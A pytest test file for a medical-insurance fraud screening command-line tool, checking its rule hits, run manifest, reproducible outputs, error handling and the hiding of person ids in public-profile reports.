"""`fraudscreen run` end to end on small hand-made data folders."""

from __future__ import annotations

import datetime as dt
import hashlib
import html
import json
import re
import shutil
import signal
import subprocess
import sys
import time
from decimal import Decimal
from pathlib import Path
from types import SimpleNamespace

import polars as pl
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from fraudscreen import runner
from fraudscreen.cli import app
from fraudscreen.contract import SUSPICIONS
from fraudscreen.privacy import WITHHELD
from fraudscreen.report import REPORT_FILES
from fraudscreen.ruleset import RuleSet
from fraudscreen.testing import table
from outputs import naming

STAYS = [
    dict(settlement_id="A", person_id="P1", institution_id="H1", medical_type="21",
         admit_time="2024-01-01 08:00:00", discharge_time="2024-01-05 10:00:00",
         diagnosis_code="J18.900", fund_amount=3000),
    dict(settlement_id="B", person_id="P1", institution_id="H1", medical_type="21",
         admit_time="2024-01-10 08:00:00", discharge_time="2024-01-12 10:00:00",
         diagnosis_code="J18.900", fund_amount=1000),
    dict(settlement_id="C", person_id="P2", institution_id="H1", medical_type="21",
         admit_time="2024-02-01 08:00:00", discharge_time="2024-02-03 10:00:00",
         diagnosis_code="I10.x00", fund_amount=500),
]
LINES = [
    dict(line_id="L1", settlement_id="A", item_code="X", charge_time="2024-01-01 09:00:00",
         quantity=1, unit_price=10, amount=10),
    dict(line_id="L2", settlement_id="B", item_code="X", charge_time="2024-01-10 09:00:00",
         quantity=1, unit_price=10, amount=10),
    dict(line_id="L3", settlement_id="B", item_code="X", charge_time="2024-01-10 09:00:00",
         quantity=1, unit_price=10, amount=10),
    dict(line_id="L4", settlement_id="C", item_code="Y", charge_time="2024-02-01 09:00:00",
         quantity=1, unit_price=10, amount=10),
]


def data_folder(tmp_path: Path, settlements=STAYS, lines=LINES, name="data") -> Path:
    folder = tmp_path / name
    folder.mkdir()
    table("settlements", settlements).write_parquet(folder / "settlements.parquet")
    table("fee_lines", lines).write_parquet(folder / "fee_lines.parquet")
    return folder


def run(*args: str):
    return CliRunner().invoke(app, ["run", "--quiet", *args])


def test_run_writes_every_output(tmp_path):
    data = data_folder(tmp_path)
    out = tmp_path / "out"
    result = run("--data", str(data), "--out", str(out))
    assert result.exit_code == 0, result.output
    for name in ("suspicions.parquet", "suspicions.csv", "quarantine.csv", "run.json"):
        assert (out / name).exists(), name
    found = pl.read_parquet(out / "suspicions.parquet")
    assert set(found["rule_id"]) >= {"split_hospitalisation.readmission",
                                     "duplicate_charge.repeated_line"}
    readmission = found.filter(pl.col("rule_id") == "split_hospitalisation.readmission")
    assert readmission["settlement_id"].to_list() == ["B"]
    assert readmission["related_settlement_ids"].to_list() == [["A"]]
    assert str(readmission["amount_at_risk"][0]) == "1000.00"
    assert "分解住院" in readmission["message"][0] or "再次入院" in readmission["message"][0]
    assert (out / "suspicions.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    # the file's schema says what the contract says: names, order, what may be null
    schema = pq.read_schema(out / "suspicions.parquet")
    assert [(f.name, f.nullable) for f in schema] == [
        (c.name, c.nullable) for c in SUSPICIONS.columns]


def test_run_json_is_a_complete_manifest(tmp_path):
    out = tmp_path / "out"
    assert run("--data", str(data_folder(tmp_path)), "--out", str(out)).exit_code == 0
    doc = json.loads((out / "run.json").read_text(encoding="utf-8"))
    assert doc["version"] and doc["engine"] == "duckdb"
    assert {i["table"] for i in doc["inputs"]} == {"settlements", "fee_lines"}
    assert all(len(i["sha256"]) == 64 and i["rows"] > 0 for i in doc["inputs"])
    rules = {r["id"]: r for r in doc["rules"]}
    assert len(rules) == 14
    assert all(len(r["content_hash"]) == 64 for r in rules.values())
    assert rules["duplicate_charge.daily_cap"]["status"] == "skipped"
    assert "catalog" in rules["duplicate_charge.daily_cap"]["reason"]
    assert rules["split_hospitalisation.readmission"]["params"]["max_gap_days"] == 15
    assert rules["split_hospitalisation.readmission"]["hits"] == 1
    assert doc["window"]["start"] == "2024-01-01" and doc["window"]["end"] == "2024-02-01"
    assert doc["suspicions"] == sum(r["hits"] for r in rules.values())
    # the reference lists behind the result, each with its checksum, and the options
    shipped = {Path(f["path"]).name: f["sha256"] for f in doc["reference_files"]}
    assert set(shipped) >= {"zhangye_2023.yaml", "item_pairs.csv"}
    lists = Path(__file__).resolve().parents[1] / "drug_watchlists"
    assert shipped["zhangye_2023.yaml"] == hashlib.sha256(
        (lists / "zhangye_2023.yaml").read_bytes()).hexdigest()
    assert doc["options"]["strict"] is False and doc["options"]["memory_limit"] == "1.5GB"


def test_same_input_gives_byte_identical_suspicions_and_leads(tmp_path, monkeypatch):
    data = data_folder(tmp_path)
    first, second = tmp_path / "o1", tmp_path / "o2"
    assert run("--data", str(data), "--out", str(first)).exit_code == 0
    monkeypatch.setattr(runner, "dt", SimpleNamespace(datetime=_Later))  # a day later
    assert run("--data", str(data), "--out", str(second)).exit_code == 0
    for name in ("suspicions.parquet", "suspicions.csv", "leads.csv", "leads.xlsx"):
        assert (first / name).read_bytes() == (second / name).read_bytes(), name
    started = [json.loads((o / "run.json").read_text())["started"] for o in (first, second)]
    assert started[0] != started[1]


class _Later(dt.datetime):
    @classmethod
    def now(cls, tz=None):
        return super().now(tz) + dt.timedelta(days=1)


def test_reversed_settlements_never_produce_a_lead(tmp_path):
    reversals = [dict(s, settlement_id=f"R{s['settlement_id']}",
                      reversed_settlement_id=s["settlement_id"],
                      fund_amount=-s["fund_amount"]) for s in STAYS]
    data = data_folder(tmp_path, STAYS + reversals)
    out = tmp_path / "out"
    assert run("--data", str(data), "--out", str(out)).exit_code == 0
    assert pl.read_parquet(out / "suspicions.parquet").height == 0
    doc = json.loads((out / "run.json").read_text(encoding="utf-8"))
    assert doc["integrity"]["removed_by_reversal"] == 6


def test_only_and_param_select_and_override(tmp_path):
    data = data_folder(tmp_path)
    out = tmp_path / "out"
    result = run("--data", str(data), "--out", str(out), "--only", "split_hospitalisation",
                 "--param", "split_hospitalisation.readmission.max_gap_days=4")
    assert result.exit_code == 0, result.output
    doc = json.loads((out / "run.json").read_text(encoding="utf-8"))
    assert [r["id"] for r in doc["rules"]] == ["split_hospitalisation.readmission"]
    assert doc["rules"][0]["hits"] == 0  # gap is 5 days
    # names separated by commas, as an analyst writes a list (found in review)
    result = run("--data", str(data), "--out", str(out), "--only",
                 "split_hospitalisation, bed_holding.idle_stay")
    assert result.exit_code == 0, result.output
    doc = json.loads((out / "run.json").read_text(encoding="utf-8"))
    assert [r["id"] for r in doc["rules"]] == ["bed_holding.idle_stay",
                                               "split_hospitalisation.readmission"]


def test_a_parameter_of_a_rule_only_leaves_out_is_checked_and_unused(tmp_path):
    """Found following the README: `--only bed_holding --param
    split_hospitalisation.readmission.max_gap_days=10` said "no rule
    'split_hospitalisation.readmission'", and a site's params file naming every rule failed
    any run with --only."""
    data, out = data_folder(tmp_path), tmp_path / "out"
    site = tmp_path / "site.yaml"
    site.write_text("split_hospitalisation.readmission: {max_gap_days: 10}\n"
                    "duplicate_charge.daily_cap: {}\n", encoding="utf-8")
    result = run("--data", str(data), "--out", str(out), "--only", "bed_holding",
                 "--param", "split_hospitalisation.readmission.max_gap_days=10",
                 "--params", str(site))
    assert result.exit_code == 0, result.output
    doc = json.loads((out / "run.json").read_text(encoding="utf-8"))
    assert {r["id"] for r in doc["rules"]} == {"bed_holding.idle_stay",
                                               "bed_holding.elsewhere_during_stay"}
    # still checked against every rule: a misspelt name is refused, --only or not
    result = run("--data", str(data), "--out", str(out), "--only", "bed_holding",
                 "--param", "split_hospitalisation.readmission.max_gap=10")
    assert result.exit_code == 2 and "did you mean 'max_gap_days'" in result.output


@pytest.mark.parametrize("args, says", [
    (["--only", "split_hospitalization"], "--only names no rule or family"),
    (["--only", " , "], "--only names nothing"),
    (["--param", "split_hospitalisation.readmission.max_gap=4"], "did you mean 'max_gap_days'"),
    (["--param", "nonsense"], "RULE_ID.NAME=VALUE"),
    (["--from", "2024-13-01"], "YYYY-MM-DD"),
])
def test_bad_options_exit_2_with_a_message(tmp_path, args, says):
    result = run("--data", str(data_folder(tmp_path)), "--out", str(tmp_path / "o"), *args)
    assert result.exit_code == 2
    assert says in result.output and "Traceback" not in result.output


def test_missing_required_table_exits_2_and_writes_nothing(tmp_path):
    data = data_folder(tmp_path)
    (data / "fee_lines.parquet").unlink()
    out = tmp_path / "out"
    result = run("--data", str(data), "--out", str(out))
    assert result.exit_code == 2 and "fee_lines" in result.output
    assert not out.exists()


def test_a_table_in_the_data_folder_and_as_a_spark_table_exits_2(tmp_path):
    """Found measuring Spark at 5 M fee lines: --spark-table fee_lines=… beside a data
    folder holding fee_lines too screened every line twice (the two were unioned), and
    74 569 suspicions came out instead of 2 420. Refused before Spark starts."""
    data = data_folder(tmp_path)
    out = tmp_path / "out"
    result = run("--data", str(data), "--out", str(out), "--engine", "spark",
                 "--spark-table", f"fee_lines={data / 'fee_lines.parquet'}")
    assert result.exit_code == 2, result.output
    assert "table fee_lines is given twice" in " ".join(result.output.split())
    assert "Traceback" not in result.output and not out.exists()


def test_a_failure_while_writing_leaves_the_previous_output_untouched(tmp_path, monkeypatch):
    data = data_folder(tmp_path)
    out = tmp_path / "out"
    assert run("--data", str(data), "--out", str(out)).exit_code == 0
    before = (out / "suspicions.parquet").read_bytes()

    def broken(*args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr("fraudscreen.runner.write_reports", broken)
    result = run("--data", str(data), "--out", str(out))
    assert result.exit_code != 0
    assert (out / "suspicions.parquet").read_bytes() == before
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".out.")]


def test_window_restricts_the_data(tmp_path):
    data = data_folder(tmp_path)
    out = tmp_path / "out"
    assert run("--data", str(data), "--out", str(out), "--from", "2024-01-11",
               "--to", "2024-01-31").exit_code == 0
    found = pl.read_parquet(out / "suspicions.parquet")
    # B, the readmission, is admitted before the window (A, the stay before it, may be)
    assert "split_hospitalisation.readmission" not in set(found["rule_id"])


def test_window_keeps_lines_charged_in_it_and_judges_a_stay_whole(tmp_path):
    """A stay admitted before --from still bills into the window (here: a drug the
    hospital never bought); a stay running past --to keeps its later lines, so the
    days after the window are not taken for idle days."""
    stays = [
        dict(settlement_id="EARLY", person_id="P1", institution_id="H1", medical_type="21",
             admit_time="2024-02-05 08:00:00", discharge_time="2024-02-20 10:00:00"),
        dict(settlement_id="LATE", person_id="P2", institution_id="H1", medical_type="21",
             admit_time="2024-02-27 08:00:00", discharge_time="2024-03-05 10:00:00"),
    ]
    lines = [dict(settlement_id="EARLY", item_code="DRUG", fee_category="09",
                  charge_time="2024-02-12 09:00:00", quantity=50, unit_price=2, amount=100)]
    lines += [dict(settlement_id="LATE", item_code="CARE", fee_category="05",
                   charge_time=f"2024-{day} 09:00:00", quantity=1, unit_price=1, amount=1)
              for day in ("02-27", "02-28", "02-29", "03-01", "03-02", "03-03", "03-04")]
    data = data_folder(tmp_path, stays, [dict(line_id=f"L{i}", **row)
                                         for i, row in enumerate(lines)])
    table("purchases", [dict(institution_id="H1", item_code="OTHER",
                             purchase_date="2024-02-01", quantity=1)]
          ).write_parquet(data / "purchases.parquet")
    out = tmp_path / "out"
    assert run("--data", str(data), "--out", str(out), "--from", "2024-02-10",
               "--to", "2024-02-29").exit_code == 0
    found = pl.read_parquet(out / "suspicions.parquet")
    bought = found.filter(pl.col("rule_id") == "item_substitution.billed_more_than_bought")
    assert bought.select("institution_id", "item_code", "amount_at_risk").rows() == [
        ("H1", "DRUG", Decimal("100.00"))]
    assert "bed_holding.idle_stay" not in set(found["rule_id"])


@pytest.mark.parametrize("where", ["data", "parent", "other folder", "file"])
def test_an_out_folder_that_is_not_ours_to_replace_is_refused_before_any_work(tmp_path, where):
    data = data_folder(tmp_path)
    (tmp_path / "other folder").mkdir()
    (tmp_path / "other folder" / "notes.txt").write_text("mine")
    (tmp_path / "file").write_text("mine")
    out = {"data": data, "parent": tmp_path}.get(where, tmp_path / where)
    before = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*"))
    result = run("--data", str(data), "--out", str(out))
    assert result.exit_code == 2
    assert "--out" in result.output
    assert sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*")) == before


def test_an_earlier_output_folder_is_replaced(tmp_path):
    data = data_folder(tmp_path)
    out = tmp_path / "out"
    assert run("--data", str(data), "--out", str(out)).exit_code == 0
    (out / "stale.txt").write_text("from before")
    assert run("--data", str(data), "--out", str(out)).exit_code == 0
    assert not (out / "stale.txt").exists() and (out / "run.json").exists()


def test_ingestion_notes_are_shown_even_quiet_and_kept_in_run_json_and_report(tmp_path):
    data = data_folder(tmp_path)
    table("settlements", STAYS).rename({"reversed_settlement_id": "冲销标志"}).write_parquet(
        data / "settlements.parquet")
    out = tmp_path / "out"
    result = run("--data", str(data), "--out", str(out))
    assert result.exit_code == 0
    assert "ignored columns not in the contract: 冲销标志" in result.output
    notes = json.loads((out / "run.json").read_text(encoding="utf-8"))["ingestion_notes"]
    assert any("冲销标志" in n for n in notes)
    assert "冲销标志" in (out / "report.html").read_text(encoding="utf-8")


def test_the_report_names_each_rule_by_its_chinese_title(tmp_path):
    """Found in an inspector's review: the page showed rule ids only
    (split_hospitalisation.readmission), never the title each rule file gives, nor what
    its amount at risk is (a fund payment, a billed amount, an increase)."""
    out = tmp_path / "out"
    assert run("--data", str(data_folder(tmp_path)), "--out", str(out)).exit_code == 0
    doc = json.loads((out / "run.json").read_text(encoding="utf-8"))
    titles = {r["id"]: r["title"] for r in doc["rules"]}
    page = (out / "report.html").read_text(encoding="utf-8")
    readmission = titles["split_hospitalisation.readmission"]
    assert readmission and page.count(readmission) == 2  # the rules table and its hit
    assert all(title in page for title in titles.values())
    # how each rule's amount at risk is computed (its amount_basis), in the rules table
    basis = {r["id"]: r["amount_basis"] for r in doc["rules"]}
    assert basis["split_hospitalisation.readmission"] == RuleSet.load().get(
        "split_hospitalisation.readmission").amount_basis != ""
    assert all(f"<td>{html.escape(b)}</td>" in page for b in basis.values())
    import openpyxl

    sheet = openpyxl.load_workbook(out / "leads.xlsx")["分解住院"]
    header = [c.value for c in sheet[1]]
    assert header[header.index("规则编号") + 1] == "规则名称"
    assert sheet.cell(2, header.index("规则名称") + 1).value == readmission


def test_leads_name_their_institutions_from_the_institutions_table(tmp_path):
    """run.json keeps the names of the institutions the suspicions name (only those), so
    `fraudscreen report` names them with the input gone; no table, no names."""
    data = data_folder(tmp_path)
    table("institutions", [dict(institution_id="H1", name="宁德市第一医院", kind="hospital"),
                           dict(institution_id="H2", name="没有疑点的医院", kind="hospital")]
          ).write_parquet(data / "institutions.parquet")
    out = tmp_path / "out"
    assert run("--data", str(data), "--out", str(out)).exit_code == 0
    assert json.loads((out / "run.json").read_text("utf-8"))["institution_names"] == {
        "H1": "宁德市第一医院"}
    (out / "leads.csv").unlink()
    (data / "institutions.parquet").unlink()
    assert CliRunner().invoke(app, ["report", str(out)]).exit_code == 0
    leads = pl.read_csv(out / "leads.csv", infer_schema=False)
    assert leads.filter(pl.col("lead_type") == "institution").select(
        "lead_id", "lead_name").rows() == [("H1", "宁德市第一医院")]
    bare = tmp_path / "bare"
    assert run("--data", str(data), "--out", str(bare)).exit_code == 0
    assert json.loads((bare / "run.json").read_text("utf-8"))["institution_names"] == {}


def test_the_data_warnings_of_the_console_are_on_the_report_page(tmp_path):
    """Found in review: a fee line whose settlement is missing was warned of on the
    console only; the inspector reading report.html never saw it."""
    orphan = dict(line_id="L9", settlement_id="GONE", item_code="X",
                  charge_time="2024-01-02 09:00:00", quantity=1, unit_price=1, amount=1)
    out = tmp_path / "out"
    result = run("--data", str(data_folder(tmp_path, lines=[*LINES, orphan])), "--out", str(out))
    assert result.exit_code == 0
    warned = "1 fee line(s) name a settlement that is not among the settlements kept"
    assert warned in result.output
    page = (out / "report.html").read_text(encoding="utf-8")
    assert "数据警示" in page and warned in page


@pytest.mark.parametrize("lines", ["none", "all bad"])
def test_no_usable_fee_line_is_an_error_not_a_list_of_idle_stays(tmp_path, lines):
    bad = [dict(line_id="L1", settlement_id="A", item_code="X",
                charge_time="2024-01-01 09:00:00", quantity=1, unit_price=1, amount=1)]
    data = data_folder(tmp_path, lines=[] if lines == "none" else bad)
    if lines == "all bad":
        (data / "fee_lines.parquet").unlink()
        (data / "fee_lines.csv").write_text(
            "line_id,settlement_id,item_code,item_name,fee_category,charge_time,quantity,"
            "unit_price,amount\nL1,A,X,x,09,2024-13-01 09:00:00,1,1,1\n", encoding="utf-8")
    out = tmp_path / "out"
    result = run("--data", str(data), "--out", str(out))
    assert result.exit_code == 2
    assert "table fee_lines has no usable row" in result.output
    assert not out.exists()


def test_a_failing_rule_is_exit_1_and_the_others_still_run(tmp_path):
    bad = tmp_path / "bad.yaml"
    bad.write_text("""\
id: custom.overflow
version: "1"
family: custom
title: t
description: d
severity: low
references: [x]
amount_basis: x
detect:
  kind: filter
  source: fee_lines
  where: CAST(item_code AS INTEGER) > 0
emit:
  amount_at_risk: amount
  message: "{settlement_id}"
  key: [settlement_id]
""", encoding="utf-8")
    out = tmp_path / "out"
    result = run("--data", str(data_folder(tmp_path)), "--out", str(out), "--rules", str(bad))
    assert result.exit_code == 1
    doc = json.loads((out / "run.json").read_text(encoding="utf-8"))
    statuses = {r["id"]: r["status"] for r in doc["rules"]}
    assert statuses["custom.overflow"] == "failed"
    assert statuses["split_hospitalisation.readmission"] == "ran"
    reasons = {r["id"]: r["reason"] for r in doc["rules"]}
    assert reasons["custom.overflow"].startswith(f"{bad}:9:1: ConversionException")  # detect:
    # the folder is written, and says it is not a complete screening
    assert doc["status"] == {"exit_code": 1, "failed_rules": ["custom.overflow"],
                             "strict_quarantine": False}
    html = (out / "report.html").read_text(encoding="utf-8")
    assert "运行不完整：规则 custom.overflow 失败" in html


def filter_rule(rule_id: str, where: str, key: str = "settlement_id") -> str:
    """A site rule of kind filter over the fee lines, as YAML."""
    return f"""\
id: {rule_id}
version: "1"
family: custom
title: t
description: d
severity: low
detect:
  kind: filter
  source: fee_lines
  where: {where}
emit:
  amount_at_risk: amount
  message: "{{settlement_id}}"
  key: [{key}]
  evidence: {{line_id: line_id}}
"""


def test_a_rule_whose_key_is_not_unique_fails_naming_its_file_and_line(tmp_path):
    rule = tmp_path / "dup.yaml"
    rule.write_text(filter_rule("custom.every_line", "amount > 0"), encoding="utf-8")
    out = tmp_path / "out"
    result = run("--data", str(data_folder(tmp_path)), "--out", str(out), "--rules", str(rule),
                 "--only", "custom")
    assert result.exit_code == 1
    (doc,) = json.loads((out / "run.json").read_text(encoding="utf-8"))["rules"]
    assert doc["status"] == "failed"
    assert doc["reason"].startswith(f"{rule}:14:") and "two hits share a key" in doc["reason"]


def test_json_log_format_is_one_event_per_line(tmp_path):
    result = CliRunner().invoke(app, ["run", "--data", str(data_folder(tmp_path)), "--out",
                                      str(tmp_path / "o"), "--log-format", "json"])
    assert result.exit_code == 0
    events = [json.loads(line) for line in result.output.splitlines() if line.startswith("{")]
    kinds = [e["event"] for e in events]
    assert kinds[0] == "ingest_start" and kinds[-1] == "done"
    files = {e["table"]: e["rows"] for e in events if e["event"] == "file"}
    done = next(e for e in events if e["event"] == "ingest_done")
    assert {"settlements", "fee_lines"} <= set(files) and sum(files.values()) == done["rows"]
    assert kinds.count("rule") == 14
    assert events[-1]["suspicions"] > 0


def test_public_profile_shares_no_raw_person_id(tmp_path, monkeypatch):
    # ids no cell reference (P1) or pseudonym (P1f0…) can hold by chance
    data = data_folder(tmp_path, [{**s, "person_id": f"ZHANG-{s['person_id']}"} for s in STAYS])
    out = tmp_path / "out"
    monkeypatch.delenv("FRAUDSCREEN_SITE_SECRET", raising=False)
    result = run("--data", str(data), "--out", str(out), "--profile", "public")
    assert result.exit_code == 2 and "secret" in result.output.lower()
    assert not out.exists()
    monkeypatch.setenv("FRAUDSCREEN_SITE_SECRET", "site-secret")
    assert run("--data", str(data), "--out", str(out), "--profile", "public").exit_code == 0
    found = pl.read_parquet(out / "suspicions.parquet")
    assert found.height > 0 and "ZHANG-P1" not in set(found["person_id"].drop_nulls())
    assert naming(out, "ZHANG-") == []  # every file, the workbook's parts too
    assert json.loads((out / "run.json").read_text())["suspicions_profile"] == "public"


def test_public_profile_hides_person_ids_in_quarantine(tmp_path, monkeypatch):
    """Also a persons row's record_key, which is its person id; a settlement's stays."""
    bad = {**STAYS[2], "settlement_id": "D", "person_id": None}
    data = data_folder(tmp_path, [*STAYS, bad])
    table("persons", [dict(person_id="P1"), dict(person_id="P1"),
                      dict(person_id="P7", gender=None)]).write_parquet(
        data / "persons.parquet")
    monkeypatch.setenv("FRAUDSCREEN_SITE_SECRET", "s")
    full, public = tmp_path / "full", tmp_path / "public"
    assert run("--data", str(data), "--out", str(full)).exit_code == 0
    assert run("--data", str(data), "--out", str(public), "--profile", "public").exit_code == 0
    columns = ["table", "column", "value", "reason", "record_key"]
    assert pl.read_csv(full / "quarantine.csv").select(columns).rows() == [
        ("persons", "person_id", "P1", "duplicate key", "P1"),
        ("persons", "gender", None, "missing value", "P7"),
        ("settlements", "person_id", None, "missing value", "D")]
    assert pl.read_csv(public / "quarantine.csv").select(columns).rows() == [
        ("persons", "person_id", "（已隐藏）", "duplicate key", "（已隐藏）"),
        ("persons", "gender", None, "missing value", "（已隐藏）"),
        ("settlements", "person_id", "（已隐藏）", "missing value", "D")]
    shared = (public / "quarantine.csv").read_text(encoding="utf-8-sig")
    assert "P1" not in shared and "P7" not in shared


# A site rule that fails on its data, DuckDB's message quoting the person id it could not
# convert: "Could not convert string 'ZHANG-4711' to INT32".
CASTS_A_PERSON_ID = """\
id: custom.cast
version: "1"
family: custom
title: t
description: d
severity: low
detect:
  kind: filter
  source: settlements
  where: CAST(person_id AS INTEGER) > 0
emit:
  amount_at_risk: fund_amount
  message: "{settlement_id}"
  key: [settlement_id]
"""


def run_failing_on_a_person_id(tmp_path: Path, profile: str):
    """A run whose site rule fails quoting person ZHANG-4711, every stay's person."""
    data = data_folder(tmp_path, [{**s, "person_id": "ZHANG-4711"} for s in STAYS])
    rule = tmp_path / "cast.yaml"
    rule.write_text(CASTS_A_PERSON_ID, encoding="utf-8")
    return run("--data", str(data), "--out", str(tmp_path / "out"), "--rules", str(rule),
               "--profile", profile)


@pytest.mark.parametrize("profile", ["full", "public"])
def test_a_rule_failing_on_a_person_id_names_it_only_outside_public(tmp_path, monkeypatch,
                                                                    profile):
    """Found in review: a site rule failing on a value put the person id, raw, in a public
    run's run.json and report.html. Public shows the failure's kind; stderr keeps the
    message."""
    monkeypatch.setenv("FRAUDSCREEN_SITE_SECRET", "s")
    result = run_failing_on_a_person_id(tmp_path, profile)
    assert result.exit_code == 1, result.output
    assert "'ZHANG-4711'" in result.output  # the operator's log: the whole message
    out = tmp_path / "out"
    (failed,) = [r for r in json.loads((out / "run.json").read_text(encoding="utf-8"))["rules"]
                 if r["status"] == "failed"]
    assert failed["error_kind"] == "ConversionException"
    if profile == "public":
        assert failed["reason"] == f"ConversionException: {WITHHELD}"
        assert naming(out, "ZHANG-4711") == []
    else:
        assert "'ZHANG-4711'" in failed["reason"]


def test_a_public_report_of_a_full_run_shows_no_failed_rules_message(tmp_path, monkeypatch):
    """`fraudscreen report OUT --profile public` over a full run: report.html read the
    failed rule's reason from run.json, person id and all."""
    monkeypatch.setenv("FRAUDSCREEN_SITE_SECRET", "s")
    assert run_failing_on_a_person_id(tmp_path, "full").exit_code == 1
    out = tmp_path / "out"
    result = CliRunner().invoke(app, ["report", str(out), "--profile", "public"])
    assert result.exit_code == 0, result.output
    assert [n for n in naming(out, "ZHANG-4711") if n.startswith(REPORT_FILES)] == []
    assert "ConversionException: message withheld" in (out / "report.html").read_text(
        encoding="utf-8")


def test_a_stopped_run_writes_nothing_and_says_so(tmp_path, monkeypatch):
    """Ctrl-C or SIGTERM mid-run: exit 130, one line, the earlier output untouched and no
    staging folder left behind."""
    import fraudscreen.runner as runner

    data, out = data_folder(tmp_path), tmp_path / "out"
    assert run("--data", str(data), "--out", str(out)).exit_code == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}

    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(runner, "screen", interrupted)
    result = run("--data", str(data), "--out", str(out))
    assert result.exit_code == 130
    assert "stopped: nothing was written" in result.output
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["data", "out"]


def test_an_interrupted_query_stops_the_run_instead_of_failing_the_rule(monkeypatch):
    """DuckDB reports Ctrl-C during a query as its own error; once a stop was asked for,
    that is a stop, not one failed rule among others (whose output would be published)."""
    from fraudscreen import stop
    from fraudscreen.ruleset import RuleSet
    from fraudscreen.screen import make_engine, screen

    def screened():
        engine = make_engine("duckdb")
        plain = engine.query

        def query(sql: str) -> pl.DataFrame:
            if "src AS" in sql:  # a rule's statement, not the run's own queries
                raise RuntimeError("Query interrupted")
            return plain(sql)

        engine.query = query
        tables = {"settlements": table("settlements", []), "fee_lines": table("fee_lines", [])}
        try:
            rules = RuleSet([RuleSet.load().get("duplicate_charge.repeated_line")])
            return screen(tables, rules, engine).outcomes[0]
        finally:
            engine.close()

    assert screened().status == "failed"  # no stop asked for: an ordinary failure
    monkeypatch.setattr(stop, "_requested", True)
    with pytest.raises(KeyboardInterrupt):
        screened()


def test_quarantine_counts_rows_by_file_and_line(tmp_path):
    """Regression (found in review): rows were counted by line alone, so bad rows on the
    same line of two parts were one row; the report summed rows over reasons, so a row
    with two reasons was two."""
    data = tmp_path / "data"
    (data / "fee_lines").mkdir(parents=True)
    table("settlements", STAYS).write_parquet(data / "settlements.parquet")
    for part, lines in (("p1", LINES[:2]), ("p2", LINES[2:])):
        text = table("fee_lines", lines).with_columns(pl.all().cast(pl.String))
        text = text.with_columns(pl.when(pl.int_range(pl.len()) == 0).then(pl.lit("bad"))
                                 .otherwise(pl.col("amount")).alias("amount"))
        if part == "p2":  # its bad row has a second bad cell
            text = text.with_columns(pl.when(pl.int_range(pl.len()) == 0).then(pl.lit("x"))
                                     .otherwise(pl.col("quantity")).alias("quantity"))
        text.write_csv(data / "fee_lines" / f"{part}.csv")
    out = tmp_path / "out"
    assert run("--data", str(data), "--out", str(out)).exit_code == 0
    doc = json.loads((out / "run.json").read_text(encoding="utf-8"))
    assert {(q["reason"], q["rows"], q["cells"]) for q in doc["quarantine"]} == {
        ("bad decimal", 2, 3)}
    html = (out / "report.html").read_text(encoding="utf-8")
    assert re.search(r"<dt>隔离行数</dt><dd>2</dd>", html)


@pytest.mark.parametrize("args, says", [
    (["run", "--memory-limit", "lots"], "write a size such as 1.5GB"),
    (["run", "--threads", "0"], "--threads"),
    (["run", "--watchlist", "/nonexistent"], "does not exist"),
    (["run", "--from", "2024-06-30", "--to", "2024-01-01"], "is after --to"),
    (["validate", "--encoding", "base64"], "unknown encoding 'base64'"),
])
def test_bad_options_are_one_line_errors_before_any_work(tmp_path, args, says):
    """Found in review: each of these was a traceback, or an exit 0 that screened
    nothing (--from after --to)."""
    data = data_folder(tmp_path)
    result = CliRunner().invoke(app, [*args, "--data", str(data), "--out",
                                      str(tmp_path / "out")])
    assert result.exit_code == 2, result.output
    assert says in result.output and "Traceback" not in result.output
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(("text", "says"), [
    ("list_name: x\nentries: [\n", ":3:1: not valid YAML"),
    ("", ": watch list: the file is empty"),
    ("entries:\n  - generic_names: [阿莫西林]\n", ":1:1: watch list: list_name is missing"),
    ("list_name: x\nactive: no\nentries: []\n", ":2:1: watch list: active: write true or"),
    ("list_name: x\nentries:\n", ":2:1: watch list: entries: give a YAML list of entries"),
    ("list_name: x\nentries:\n  - 5\n", ":3:5: watch list: entry 1: a mapping with"),
    ("list_name: x\nentries:\n  - {name: a}\n", ":3:5: watch list: entry 1 gives no "
                                                "generic_names or item_codes"),
    ("list_name: x\nentries:\n  - generic_names: [~]\n",
     ":3:21: watch list: entry 1: generic_names: an empty value (null) is not a name"),
    ("list_name: x\nentries:\n  - generic_names:\n", ":3:5: watch list: entry 1: "
                                                      "generic_names: an empty value (null)"),
    ("list_name: x\nentries:\n  - item_codes: [A1, {a: 1}]\n",
     ":3:22: watch list: entry 1: item_codes: {'a': 1} is not a name or a code"),
    ("list_name: x\nentries:\n  - item_codes: ['*']\n",
     ":3:18: watch list: entry 1: item_codes: '*' would match every item"),
    ("list_name: x\nentries:\n  - generic_names: ['']\n",
     ":3:21: watch list: entry 1: generic_names: '' would match every item"),
    ("list_name: x\nentries:\n  - generic_names: [a]\n    generic_names: [b]\n",
     ":4:5: not valid YAML: key 'generic_names' is given twice"),
])
def test_a_watch_list_the_engine_would_misread_is_an_error_naming_file_and_entry(
        tmp_path, text, says):
    """Found in review: these were tracebacks, or ["None"] matched as a name."""
    from fraudscreen.reference import load_watchlist
    from fraudscreen.rule import RuleError

    path = tmp_path / "list.yaml"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(RuleError) as err:
        load_watchlist(path)
    assert str(err.value).startswith(f"{path}{says}"), str(err.value)


def test_a_watch_list_is_read_as_written_and_a_broken_one_stops_the_run(tmp_path):
    """Found in review: `generic_names: 阿莫西林` was split into its characters (any
    name with 西 or 林 matched), *.yml lists in a folder were skipped, a GBK list was a
    codec error naming no file, and a broken list a traceback once the data was read."""
    from fraudscreen.reference import load_watchlist, watchlist_files

    lists = tmp_path / "lists"
    lists.mkdir()
    (lists / "site.YML").write_text("list_name: 测试\nentries:\n  - generic_names: 阿莫西林\n"
                                    "    item_codes: [X1, 2]\n", encoding="utf-8")
    assert watchlist_files([lists])[-1] == lists / "site.YML"
    assert load_watchlist(lists / "site.YML") == [
        {"list_name": "测试", "item_code": "X1", "generic_name": None},
        {"list_name": "测试", "item_code": "2", "generic_name": None},
        {"list_name": "测试", "item_code": None, "generic_name": "阿莫西林"}]
